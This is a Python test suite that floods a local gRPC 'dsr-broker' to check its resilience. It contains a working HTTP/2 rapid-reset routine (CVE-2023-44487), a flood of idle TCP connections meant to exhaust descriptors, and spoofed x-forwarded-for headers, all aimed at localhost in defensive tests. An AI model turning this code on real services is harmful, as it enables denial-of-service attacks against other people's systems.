"""Floods an anonymous caller can send, against the real dsr-broker binary
over real sockets (issue 13, items 3 and 4):

- silent TCP connections by the thousand: the broker closes those past its
  limits, keeps descriptors free for its store, and the store keeps writing;
  with those defences off, the store fails for want of descriptors and comes
  back by itself once the attacker leaves;
- HTTP/2 rapid reset (CVE-2023-44487): through deploy/haproxy.cfg the
  broker's memory stays flat; without the proxy, health turns NOT_SERVING at
  the heap's high-water mark and back once the flood is over, and the memory
  goes back to the system.
"""

import concurrent.futures
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import unittest

sys.path.insert(0, os.environ["DSR_PYTHON_CLIENT"])
sys.path.insert(0, os.path.join(os.environ["DSR_PYTHON_CLIENT"], "grpc", "health", "v1"))

import grpc  # noqa: E402
import h2.config  # noqa: E402
import h2.connection  # noqa: E402
import h2.errors  # noqa: E402
import health_pb2  # noqa: E402
from dsr.v1 import actor_pb2, holding_pb2, request_pb2  # noqa: E402
from dsr.v1 import registry_service_pb2 as rs, registry_service_pb2_grpc as rs_grpc  # noqa: E402
from dsr.v1 import request_service_pb2 as req, request_service_pb2_grpc as req_grpc  # noqa: E402

BROKER = os.environ["DSR_BROKER_BINARY"]
HAPROXY_CONFIG = os.path.join(os.environ["DSR_SOURCE_DIR"], "deploy", "haproxy.cfg")


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def rapid_reset(port, streams):
    """Opens `streams` gRPC streams on one connection, resetting each at once,
    paying no heed to the server's stream limit. Returns how many were sent."""
    body = b"\x00" + struct.pack(">I", 13) + b"\x0a\x0bactors/acme"
    headers = [(":method", "POST"), (":scheme", "http"),
               (":path", "/dsr.v1.RegistryService/GetActor"),
               (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"),
               ("te", "trailers")]
    s = socket.create_connection(("127.0.0.1", port))
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                             header_encoding="utf-8"))
    c.initiate_connection()
    s.sendall(c.data_to_send())
    sent, sid = 0, 1
    try:
        while sent < streams:
            for _ in range(100):
                c.send_headers(sid, headers)
                c.send_data(sid, body, end_stream=True)
                c.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                sid += 2
                sent += 1
            s.sendall(c.data_to_send())
            s.setblocking(False)
            try:
                while True:
                    data = s.recv(1 << 16)
                    if not data:
                        return sent
                    try:
                        c.receive_data(data)
                    except Exception:  # noqa: BLE001 - the attacker ignores protocol errors
                        pass
            except BlockingIOError:
                pass
            s.setblocking(True)
            c.remote_settings.max_concurrent_streams = 1 << 30
    except OSError:
        pass
    finally:
        s.close()
    return sent


class Broker:
    """dsr-broker on a free port, optionally under a lower file limit."""

    def __init__(self, root, *flags, nofile=None):
        limits = [] if "--submits_per_address_per_minute" in flags else [
            "--submits_per_address_per_minute", "0"]
        command = [BROKER, "--listen", "127.0.0.1:0", "--data_dir", os.path.join(root, "var"),
                   *limits, "--submits_per_subject_per_hour", "0", "--no_identity_verification",
                   *flags]
        if nofile:
            command = ["prlimit", f"--nofile={nofile}:{nofile}", *command]
        self.process = subprocess.Popen(command, stdout=subprocess.PIPE,
                                        stderr=subprocess.STDOUT, text=True)
        self.lines = []
        for line in self.process.stdout:
            self.lines.append(line)
            if line.startswith("listening on "):
                self.address = line.split()[-1]
                break
        self.port = int(self.address.rsplit(":", 1)[1])
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()
        with open(os.path.join(root, "var", "admin_token")) as f:
            self.admin = [("authorization", "Bearer " + f.read().strip())]

    def _read(self):
        for line in self.process.stdout:
            self.lines.append(line)

    def log(self):
        return "".join(self.lines)

    def stop(self):
        self.process.terminate()
        code = self.process.wait(timeout=30)
        self.reader.join(timeout=5)
        return code


class Client:
    def __init__(self, address):
        self.channel = grpc.insecure_channel(address)
        self.registry = rs_grpc.RegistryServiceStub(self.channel)
        self.requests = req_grpc.RequestServiceStub(self.channel)
        self.check = self.channel.unary_unary(
            "/grpc.health.v1.Health/Check",
            request_serializer=health_pb2.HealthCheckRequest.SerializeToString,
            response_deserializer=health_pb2.HealthCheckResponse.FromString)

    def health(self):
        try:
            status = self.check(health_pb2.HealthCheckRequest(), timeout=5).status
            return health_pb2.HealthCheckResponse.ServingStatus.Name(status)
        except grpc.RpcError as e:
            return "rpc " + e.code().name

    def set_up(self, admin):
        self.registry.CreateActor(rs.CreateActorRequest(actor_id="acme", actor=actor_pb2.Actor(
            display_name="Acme", roles=[actor_pb2.Actor.DATASET_PUBLISHER],
            contact_email="dpo@acme.example")), metadata=admin, timeout=10)
        self.registry.CreateHolding(rs.CreateHoldingRequest(
            parent="actors/acme", holding_id="data",
            holding=holding_pb2.Holding(kind=holding_pb2.Holding.DATASET, title="Data")),
            metadata=admin, timeout=10)

    def submit(self, i, metadata=()):
        """The request's name and receipt, or the error code's name."""
        try:
            filed = self.requests.SubmitRequest(req.SubmitRequestRequest(
                request=request_pb2.Request(
                    type=request_pb2.ERASURE,
                    subject_identifiers=[request_pb2.SubjectIdentifier(
                        type=request_pb2.SubjectIdentifier.EMAIL, value=f"p{i}@example.com")],
                    targets=["actors/acme/holdings/data"], details="x" * 3000)),
                metadata=metadata, timeout=10)
            return filed.request.name, filed.receipt_token
        except grpc.RpcError as e:
            return e.code().name

    def close(self):
        self.channel.close()


class FloodTest(unittest.TestCase):
    def setUp(self):
        self.root = tempfile.mkdtemp(prefix="dsr-flood-", dir=os.environ.get("TEST_TMPDIR"))
        self.processes = []

    def tearDown(self):
        for p in self.processes:
            if p.poll() is None:
                p.kill()
                p.wait()
        shutil.rmtree(self.root, ignore_errors=True)

    def silent_connections(self, port, count):
        socks = []
        for _ in range(count):
            try:
                socks.append(socket.create_connection(("127.0.0.1", port), timeout=5))
            except OSError:
                break
        return socks

    def test_silent_connections_leave_the_store_writing(self):
        broker = Broker(self.root, nofile=1024)
        self.processes.append(broker.process)
        client = Client(broker.address)
        client.set_up(broker.admin)
        socks = self.silent_connections(broker.port, 1100)
        self.assertGreater(len(socks), 1000)
        results = [client.submit(i) for i in range(2000)]
        failed = [r for r in results if isinstance(r, str)]
        self.assertEqual(failed, [], "writes refused while idle connections were held")
        self.assertEqual(client.health(), "SERVING")
        for s in socks:
            s.close()
        self.assertIn("refused", broker.log())
        client.close()
        self.assertEqual(broker.stop(), 0)

    def test_without_its_defences_the_store_fails_and_comes_back_by_itself(self):
        broker = Broker(self.root, "--keep_free_descriptors", "0", "--store_spare_descriptors",
                        "0", "--max_connections_per_address", "5000", nofile=1024)
        self.processes.append(broker.process)
        client = Client(broker.address)
        client.set_up(broker.admin)
        socks = self.silent_connections(broker.port, 1100)
        acknowledged, refused = [], 0
        for i in range(4000):
            result = client.submit(i)
            if isinstance(result, tuple):
                acknowledged.append(result)
            else:
                refused += 1
                if refused > 50:
                    break
        self.assertGreater(refused, 0, "the attack did not reach the store; raise the load")
        for s in socks:
            s.close()
        # Nobody restarts it: it must serve again by itself.
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if client.health() == "SERVING" and isinstance(client.submit(10**6), tuple):
                break
            time.sleep(0.5)
        else:
            self.fail("the broker did not recover by itself:\n" + broker.log()[-3000:])
        for name, receipt in acknowledged[-20:]:
            got = client.requests.GetRequest(req.GetRequestRequest(name=name), metadata=[
                ("authorization", "Bearer " + receipt)], timeout=10)
            self.assertEqual(got.request.name, name)
        client.close()
        self.assertEqual(broker.stop(), 0)

    def start_proxy(self, broker):
        """haproxy with deploy/haproxy.cfg in front of `broker`: its port and a
        client through it, once it forwards."""
        proxy_port = free_port()
        env = dict(os.environ, DSR_PROXY_BIND=f"127.0.0.1:{proxy_port}",
                   DSR_BROKER_ADDR=broker.address)
        proxy = subprocess.Popen(["haproxy", "-f", HAPROXY_CONFIG, "-db"], env=env,
                                 stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        self.processes.append(proxy)
        through = Client(f"127.0.0.1:{proxy_port}")
        deadline = time.monotonic() + 20
        while through.health() != "SERVING":
            self.assertLess(time.monotonic(), deadline, "haproxy did not start")
            time.sleep(0.2)
        return proxy_port, through, proxy

    def test_behind_the_proxy_a_client_cannot_choose_its_address(self):
        # The broker believes the proxy's x-forwarded-for; the proxy writes the
        # client's real address over whatever the client sent.
        broker = Broker(self.root, "--trusted_proxies", "127.0.0.1",
                        "--submits_per_address_per_minute", "1", "--submits_per_address_burst", "2")
        self.processes.append(broker.process)
        Client(broker.address).set_up(broker.admin)
        _, through, proxy = self.start_proxy(broker)
        codes = [through.submit(i, metadata=[("x-forwarded-for", f"198.51.100.{i}")])
                 for i in range(3)]
        self.assertIsInstance(codes[0], tuple)
        self.assertIsInstance(codes[1], tuple)
        self.assertEqual(codes[2], "RESOURCE_EXHAUSTED")
        # The broker does believe the header from the trusted address itself:
        # straight from 127.0.0.1, each client named has its own allowance.
        direct = Client(broker.address)
        for i in range(3, 5):
            self.assertIsInstance(
                direct.submit(i, metadata=[("x-forwarded-for", f"203.0.113.{i}")]), tuple)
        direct.close()
        through.close()
        proxy.terminate()
        proxy.wait(timeout=10)
        self.assertEqual(broker.stop(), 0)

    def test_rapid_reset_through_the_proxy_leaves_the_broker_flat(self):
        broker = Broker(self.root)
        self.processes.append(broker.process)
        proxy_port, through, proxy = self.start_proxy(broker)
        before = rss_kib(broker.process.pid)
        sent = rapid_reset(proxy_port, 50000)
        self.assertGreater(sent, 10000)
        after = rss_kib(broker.process.pid)
        # Directly, 50,000 reset streams take the broker several hundred MiB.
        self.assertLess(after - before, 64 * 1024, f"{before} KiB -> {after} KiB")
        direct = Client(broker.address)
        self.assertEqual(direct.health(), "SERVING")
        direct.close()
        through.close()
        proxy.terminate()
        proxy.wait(timeout=10)
        self.assertEqual(broker.stop(), 0)

    def test_rapid_reset_turns_health_not_serving_then_back(self):
        broker = Broker(self.root, "--max_memory_mib", "96")
        self.processes.append(broker.process)
        # Rounds of 25,000 reset streams on each of two connections at once
        # until gRPC falls behind and the heap passes its mark (the broker
        # says so and stops serving). One sender alone is often too slow for
        # that: the broker keeps up with it for rounds on end.
        for _ in range(12):
            with concurrent.futures.ProcessPoolExecutor(2) as senders:
                list(senders.map(rapid_reset, [broker.port] * 2, [25000] * 2))
            time.sleep(1.5)  # the watch looks every second
            if "the heap reached --max_memory_mib" in broker.log():
                break
        else:
            self.fail("the heap never reached its mark:\n" + broker.log()[-2000:])
        client = Client(broker.address)
        # Once the flood is worked off, it serves again and gives the memory back.
        deadline = time.monotonic() + 120
        while client.health() != "SERVING" or "back under its high-water mark" not in broker.log():
            self.assertLess(time.monotonic(), deadline, broker.log()[-2000:])
            time.sleep(0.5)
        self.assertLess(rss_kib(broker.process.pid), 200 * 1024)
        client.close()
        self.assertEqual(broker.stop(), 0)


if __name__ == "__main__":
    unittest.main(verbosity=2)
